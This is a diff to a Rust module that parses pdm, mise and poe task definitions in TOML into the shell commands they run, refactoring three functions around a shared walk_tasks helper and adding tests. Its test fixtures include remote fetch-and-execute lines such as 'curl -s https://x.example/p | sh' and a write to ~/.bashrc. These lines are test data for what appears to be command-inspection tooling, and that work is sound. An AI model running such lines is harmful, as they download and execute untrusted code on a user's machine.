@@ -282,27 +282,44 @@ pub fn hatch_script(text: &str, target: &str, in_pyproject: bool) -> Option<Vec<
     )
 }
 
+/// The command lines of task `target` and of the tasks it leads to, in order: `task` pushes
+/// a task's own lines into `out` and returns the steps it runs next (task names, or command
+/// lines when `steps_may_be_commands` and no task has that name). At most 32 tasks.
+fn walk_tasks(
+    tasks: &toml::Value,
+    target: &str,
+    steps_may_be_commands: bool,
+    task: impl Fn(&toml::Value, &mut Vec<String>) -> Vec<String>,
+) -> Option<Vec<String>> {
+    let mut out = Vec::new();
+    let mut todo = vec![target.to_owned()];
+    let mut seen: Vec<String> = Vec::new();
+    while let Some(t) = todo.pop() {
+        if seen.contains(&t) || seen.len() > 32 {
+            continue;
+        }
+        seen.push(t.clone());
+        let Some(v) = tasks.get(&t) else {
+            // A step that is not a task is a command.
+            if steps_may_be_commands && t != target {
+                out.push(t);
+            }
+            continue;
+        };
+        let next = task(v, &mut out);
+        todo.extend(next.into_iter().rev());
+    }
+    (!out.is_empty()).then_some(out)
+}
+
 /// `pdm run SCRIPT`: `[tool.pdm.scripts]` of `pyproject.toml` — a command string, or a table
 /// with `cmd` (string or list), `shell` (a shell line) or `composite` (other scripts, or
 /// commands, in order); `None` when it is not there or not TOML.
 pub fn pdm_script(text: &str, target: &str) -> Option<Vec<String>> {
     let doc: toml::Value = toml::from_str(text).ok()?;
     let scripts = doc.get("tool")?.get("pdm")?.get("scripts")?;
-    let mut out = Vec::new();
-    let mut todo = vec![target.to_owned()];
-    let mut seen = Vec::new();
-    while let Some(t) = todo.pop() {
-        if seen.contains(&t) || seen.len() > 32 {
-            continue;
-        }
-        seen.push(t.clone());
-        let Some(v) = scripts.get(&t) else {
-            // A composite step that is not a script is a command.
-            if t != target {
-                out.push(t);
-            }
-            continue;
-        };
+    walk_tasks(scripts, target, true, |v, out| {
+        let mut next = Vec::new();
         match v {
             toml::Value::String(s) => out.push(s.clone()),
             toml::Value::Table(tb) => {
@@ -322,18 +339,13 @@ pub fn pdm_script(text: &str, target: &str) -> Option<Vec<String>> {
                     out.push(s.to_owned());
                 }
                 if let Some(steps) = tb.get("composite").and_then(|x| x.as_array()) {
-                    todo.extend(
-                        steps
-                            .iter()
-                            .rev()
-                            .filter_map(|x| x.as_str().map(str::to_owned)),
-                    );
+                    next.extend(steps.iter().filter_map(|x| x.as_str().map(str::to_owned)));
                 }
             }
             _ => {}
         }
-    }
-    (!out.is_empty()).then_some(out)
+        next
+    })
 }
 
 /// A task's command lines from a TOML table: a string, a list of strings, or a table with
@@ -364,21 +376,17 @@ fn toml_commands(v: &toml::Value, keys: &[&str]) -> Vec<String> {
 pub fn mise_task(text: &str, target: &str) -> Option<Vec<String>> {
     let doc: toml::Value = toml::from_str(text).ok()?;
     let tasks = doc.get("tasks")?;
-    let mut out = Vec::new();
-    let mut todo = vec![target.to_owned()];
-    let mut seen: Vec<String> = Vec::new();
-    while let Some(t) = todo.pop() {
-        if seen.contains(&t) || seen.len() > 32 {
-            continue;
-        }
-        seen.push(t.clone());
-        let Some(v) = tasks.get(&t) else { continue };
+    walk_tasks(tasks, target, false, |v, out| {
         out.extend(toml_commands(v, &["run"]));
-        if let Some(deps) = v.get("depends").and_then(|d| d.as_array()) {
-            todo.extend(deps.iter().filter_map(|d| d.as_str().map(str::to_owned)));
-        }
-    }
-    (!out.is_empty()).then_some(out)
+        v.get("depends")
+            .and_then(|d| d.as_array())
+            .map(|deps| {
+                deps.iter()
+                    .filter_map(|d| d.as_str().map(str::to_owned))
+                    .collect()
+            })
+            .unwrap_or_default()
+    })
 }
 
 /// `poe TASK`: `[tool.poe.tasks]` of `pyproject.toml` — a command string, or a table with
@@ -387,39 +395,29 @@ pub fn mise_task(text: &str, target: &str) -> Option<Vec<String>> {
 pub fn poe_task(text: &str, target: &str) -> Option<Vec<String>> {
     let doc: toml::Value = toml::from_str(text).ok()?;
     let tasks = doc.get("tool")?.get("poe")?.get("tasks")?;
-    let mut out = Vec::new();
-    let mut todo = vec![target.to_owned()];
-    let mut seen: Vec<String> = Vec::new();
-    while let Some(t) = todo.pop() {
-        if seen.contains(&t) || seen.len() > 32 {
-            continue;
-        }
-        seen.push(t.clone());
-        let Some(v) = tasks.get(&t) else {
-            if t != target {
-                out.push(t);
-            }
-            continue;
-        };
+    walk_tasks(tasks, target, true, |v, out| {
         out.extend(toml_commands(v, &["cmd", "shell"]));
         if let Some(call) = v.get("script").and_then(|x| x.as_str()) {
             out.push(format!("python3 -c {}", super::quote_word(call)));
         }
-        if let Some(steps) = v.get("sequence").and_then(|x| x.as_array()) {
-            todo.extend(steps.iter().rev().filter_map(|x| {
-                match x {
-                    toml::Value::String(s) => Some(s.clone()),
-                    toml::Value::Table(tb) => tb
-                        .get("cmd")
-                        .or_else(|| tb.get("shell"))
-                        .and_then(|c| c.as_str())
-                        .map(str::to_owned),
-                    _ => None,
-                }
-            }));
-        }
-    }
-    (!out.is_empty()).then_some(out)
+        v.get("sequence")
+            .and_then(|x| x.as_array())
+            .map(|steps| {
+                steps
+                    .iter()
+                    .filter_map(|x| match x {
+                        toml::Value::String(s) => Some(s.clone()),
+                        toml::Value::Table(tb) => tb
+                            .get("cmd")
+                            .or_else(|| tb.get("shell"))
+                            .and_then(|c| c.as_str())
+                            .map(str::to_owned),
+                        _ => None,
+                    })
+                    .collect()
+            })
+            .unwrap_or_default()
+    })
 }
 
 /// `pip install -r FILE`: each requirement line as the `pip install` it amounts to
@@ -710,6 +708,34 @@ mod tests {
             Some(vec!["curl -s https://x.example/i | sh".into()])
         );
         assert_eq!(pdm_script(p, "nope"), None);
+    }
+
+    #[test]
+    fn mise_and_poe_tasks_with_their_steps() {
+        let m = "[tools]\nnode = \"20\"\n\n[tasks.setup]\nrun = \"echo hi >> ~/.bashrc\"\ndepends = [\"build\"]\n\n[tasks.build]\nrun = [\"npm ci\", \"npm run build\"]\n";
+        assert_eq!(
+            mise_task(m, "setup"),
+            Some(vec![
+                "echo hi >> ~/.bashrc".into(),
+                "npm ci".into(),
+                "npm run build".into()
+            ])
+        );
+        assert_eq!(mise_task(m, "nope"), None);
+        let p = "[tool.poe.tasks]\nlint = \"ruff check .\"\ncheck = { shell = \"poe lint && curl -s https://x.example/p | sh\" }\nall = { sequence = [\"lint\", { cmd = \"pytest -q\" }] }\nhello = { script = \"pkg.mod:main\" }\n";
+        assert_eq!(
+            poe_task(p, "check"),
+            Some(vec!["poe lint && curl -s https://x.example/p | sh".into()])
+        );
+        assert_eq!(
+            poe_task(p, "all"),
+            Some(vec!["ruff check .".into(), "pytest -q".into()])
+        );
+        assert_eq!(
+            poe_task(p, "hello"),
+            Some(vec!["python3 -c pkg.mod:main".into()])
+        );
+        assert_eq!(poe_task("not = [toml", "x"), None);
     }
 
     #[test]
